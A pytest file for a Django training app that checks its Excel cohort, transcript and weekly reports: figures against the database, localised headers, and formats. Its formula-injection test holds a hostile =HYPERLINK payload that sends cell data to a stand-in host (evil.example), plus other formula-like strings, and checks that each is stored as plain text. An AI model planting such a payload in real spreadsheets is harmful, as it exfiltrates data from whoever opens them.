"""Excel reports: the cohort report built, read back with openpyxl and its figures checked against the
database; its sheet names, headers and labels in the asker's language; and text that a spreadsheet would
run as a formula kept as text.

A report is built in the asker's language: its sheet names, column headers and notes as well as its
labels. The tests run in English, the source language, and assert the English texts (see conftest.py);
one test builds a report in Chinese, the default language, and another checks that an English one has
no Chinese fixed text."""

from __future__ import annotations

import re
import zipfile

import pytest
import time_machine
from django.utils import translation

from assessments.models import Attempt, Exam, PracticalAssessment, Rubric
from employees.models import Status
from tests.reports.report_data import DAY1, DAY4, attendance_rate, build, by, items_of, table, workbook
from training.models import ItemRecord
from training.services import change_status

pytestmark = pytest.mark.usefixtures("media_in_english")

CJK = re.compile(r"[\u4e00-\u9fff]")


# ---------------------------------------------------------------------------- the cohort report


def test_cohort_report_members_sheet_figures_come_from_the_database(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}, world.hr))
    assert wb.sheetnames == ["Members", "Attendance", "Exams", "Practicals", "About this report"]
    rows = table(wb["Members"])
    assert len(rows) == 2
    me = by(rows, "Employee number", world.trainee.employee_no)
    assert me["Name"] == "张小花"
    assert me["Mentor"] == "王师傅"
    assert me["Status"] == "In training"
    assert me["Attendance rate"] == pytest.approx(attendance_rate(world.enrollment)) == pytest.approx(4 / 5)
    assert (me["Sessions marked"], me["Sessions absent"], me["Sessions completed"]) == (5, 1, 1)
    # Best final result per exam; the attempt awaiting grading and the practice attempt do not count.
    assert me["过关考试：业务知识 (best score)"] == 85
    assert me["过关考试：业务系统操作 (best score)"] == 90
    assert me["新员工手册测验 (best score)"] is None
    assert me["All pass exams passed"] == "Yes"
    assert me["接待售前咨询 (practical %)"] == float(rich["latest"].percent)
    assert me["Average shadowing score"] == 4.5
    typing = (me["Best typing speed (characters/min)"], me["Best typing accuracy (%)"], me["Typing standard met"])
    assert typing == (70, 96, "Yes")
    other = by(rows, "Employee number", "B000")
    assert other["Status"] == "Eliminated"
    assert other["All pass exams passed"] == "No"  # 60 in business knowledge


def test_cohort_report_attendance_sheet_shows_each_day(world, rich):
    rows = table(workbook(build("cohort", {"cohort": world.cohort.pk}))["Attendance"])
    me = by(rows, "Employee number", world.trainee.employee_no)
    day1 = len(items_of(world.enrollment, 1))
    assert me["Day 1 attendance"] == "Absent"  # the worst mark of the day
    assert me["Day 1 completed"] == pytest.approx(round(1 / day1, 4))
    assert me["Day 2 attendance"] == "Present"
    assert me["Day 3 attendance"] is None and me["Day 3 completed"] is None  # no roll call that day: blank, not 0 %
    assert "Day 0 attendance" in me and "Day 16 completed" in me


def test_cohort_report_lists_every_counted_attempt_and_each_practical(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}))
    attempts = [r for r in table(wb["Exams"]) if r["Employee number"] == world.trainee.employee_no]
    expected = Attempt.objects.filter(employee=world.trainee, is_practice=False).count()
    assert len(attempts) == expected == 4
    assert [(r["Exam"], r["Attempt"], r["Result (%)"], r["Passed"]) for r in attempts] == [
        ("新员工手册测验", 1, 95, None),
        ("过关考试：业务知识", 1, 60, "No"),
        ("过关考试：业务知识", 2, 85, "Yes"),
        ("过关考试：业务系统操作", 1, 90, "Yes"),
    ]
    practicals = [r for r in table(wb["Practicals"]) if r["Employee number"] == world.trainee.employee_no]
    assert len(practicals) == PracticalAssessment.objects.filter(employee=world.trainee).count() == 2
    assert practicals[-1]["Overall comment"] == "接待热情"
    criteria = list(Rubric.objects.get(code="receiving-presale").criteria.values_list("title", flat=True))
    assert all(title in practicals[-1]["Score details"] for title in criteria)


def test_sheets_have_frozen_headers_widths_and_number_formats(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}))
    ws = wb["Members"]
    assert ws.freeze_panes == "C2"
    assert ws["A1"].font.b and ws["A1"].value == "Employee number"
    assert ws.column_dimensions["A"].width == 12
    assert ws.auto_filter.ref.startswith("A1:")
    header = [c.value for c in ws[1]]
    rate = ws.cell(row=2, column=header.index("Attendance rate") + 1)
    assert rate.number_format == "0.0%"
    best = ws.cell(row=2, column=header.index("过关考试：业务知识 (best score)") + 1)
    assert best.number_format == "0.0"
    attempts = wb["Exams"]
    header = [c.value for c in attempts[1]]
    quiz = 2 + [r["Exam"] for r in table(attempts)].index("新员工手册测验")
    started = attempts.cell(row=quiz, column=header.index("Started at") + 1)
    assert started.is_date and started.number_format == "yyyy-mm-dd hh:mm"
    assert started.value == DAY1.replace(tzinfo=None)  # Shanghai wall-clock time, no time zone
    assert wb["Attendance"].freeze_panes == "C2"


# ---------------------------------------------------------------------------- language


def test_a_report_asked_for_in_chinese_has_chinese_sheet_names_and_headers(world, rich):
    with translation.override("zh-hans"):
        report = build("cohort", {"cohort": world.cohort.pk}, world.hr)
    assert report.params["language"] == "zh-hans"
    wb = workbook(report)
    assert wb.sheetnames == ["成员", "考勤", "考试", "实操", "说明"]
    header = [c.value for c in wb["成员"][1]]
    assert header[:9] == ["工号", "姓名", "岗位类别", "师傅", "状态", "培训状态", "培训结果", "培训计划", "出勤率"]
    assert "过关考试：业务知识（最高分）" in header and "接待售前咨询（实操%）" in header
    assert [c.value for c in wb["考勤"][1]][2:4] == ["第0天出勤", "第0天完成"]
    assert [c.value for c in wb["实操"][1]][2:4] == ["实操项目", "考核时间"]
    assert [c.value for c in wb["说明"][1]] == ["项目", "内容"]
    me = by(table(wb["成员"]), "工号", world.trainee.employee_no)
    assert (me["状态"], me["过关考试全部通过"]) == ("培训中", "是")  # the labels follow the language too


def test_a_report_asked_for_in_english_has_no_chinese_sheet_name_or_header(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}, world.hr))
    assert not [name for name in wb.sheetnames if CJK.search(name)]
    # The members sheet names each exam and rubric by its title: data, which stays as it was written.
    titles = sorted(
        {*Exam.objects.values_list("title", flat=True), *Rubric.objects.values_list("title", flat=True)},
        key=len,
        reverse=True,
    )

    def fixed_text(header: str) -> str:
        return next((header[len(t) :] for t in titles if header.startswith(t)), header)

    headers = [(ws.title, cell.value) for ws in wb.worksheets for cell in ws[1]]
    assert len(headers) > 60 and ("Members", "过关考试：业务知识 (best score)") in headers
    assert not [(sheet, header) for sheet, header in headers if CJK.search(fixed_text(header))]
    notes = [label for label, _value in wb["About this report"].iter_rows(min_row=2, values_only=True)]
    assert notes and not [label for label in notes if CJK.search(label)]


# ---------------------------------------------------------------------------- formula injection


HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


def test_text_that_looks_like_a_formula_is_written_as_text(world, rich):
    world.trainee.name = HOSTILE
    world.trainee.save()
    PracticalAssessment.objects.filter(pk=rich["latest"].pk).update(comment="+1 很好")
    ItemRecord.objects.filter(enrollment=world.enrollment).update(note="@SUM(A1:A9)")
    with time_machine.travel(DAY4, tick=False):
        change_status(employee=world.trainee, to_status=Status.ELIMINATED, reason="-2+3\x07 态度", by=world.hr)
    cohort = build("cohort", {"cohort": world.cohort.pk})
    transcript = build("transcript", {"employee": world.trainee.pk})
    weekly = build("weekly", {"week_start": "2026-11-16"})

    def text_cells(report, sheet, column):
        ws = workbook(report)[sheet]
        header = [c.value for c in ws[1]]
        return [row[header.index(column)] for row in ws.iter_rows(min_row=2) if row[header.index(column)].value]

    name = by_value(text_cells(cohort, "Members", "Name"), HOSTILE)
    comment = by_value(text_cells(cohort, "Practicals", "Overall comment"), "+1 很好")
    note = text_cells(transcript, "Training schedule", "Roll-call note")[0]
    reason = by_value(text_cells(weekly, "Status changes", "Reason"), "-2+3 态度")  # the control character is dropped
    for cell in (name, comment, note, reason):
        assert cell.data_type == "s"  # not "f": nothing is evaluated
        assert cell.quotePrefix  # and stays text when someone edits the cell
    assert note.value == "@SUM(A1:A9)"
    for report in (cohort, transcript, weekly):
        with zipfile.ZipFile(report.file.path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def by_value(cells, value):
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} not among {[c.value for c in cells]}"
    return found[0]
